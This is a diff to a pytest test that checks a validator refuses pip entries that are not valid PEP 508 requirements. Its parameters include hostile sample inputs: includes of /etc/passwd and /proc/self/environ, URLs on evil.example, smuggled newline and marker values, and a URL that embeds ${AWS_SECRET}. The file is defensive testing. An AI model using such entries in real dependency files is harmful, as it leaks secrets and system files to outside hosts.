@@ -92,7 +92,9 @@ def accepted(project: Path) -> None:
 # -- finding 3: pip entries are requirements, the index is its own setting ------------------------
 @pytest.mark.parametrize("entry", ["-r/proc/self/environ", "-r/etc/passwd", "--index-url=https://evil.example/s",
                                    "-e .", "pkg @ file:///etc/passwd", "pkg @ http://evil.example/p.whl",
-                                   "numpy==1 --hash=sha256:00", "numpy\\n-r /etc/passwd"])
+                                   "numpy==1 --hash=sha256:00", "numpy\\n-r /etc/passwd",
+                                   "numpy; python_version == ' -r/etc/passwd'", "numpy; os_name == ' #x'",
+                                   "pkg @ https://example.org/$${AWS_SECRET}.whl"])
 def test_pip_entries_must_be_pep508_requirements(project: Path, entry: str):
     replace(project, "      - joblib>=1.3", f'      - "{entry}"')
     err = refused(project, "environments.sklearn.pip[1]")
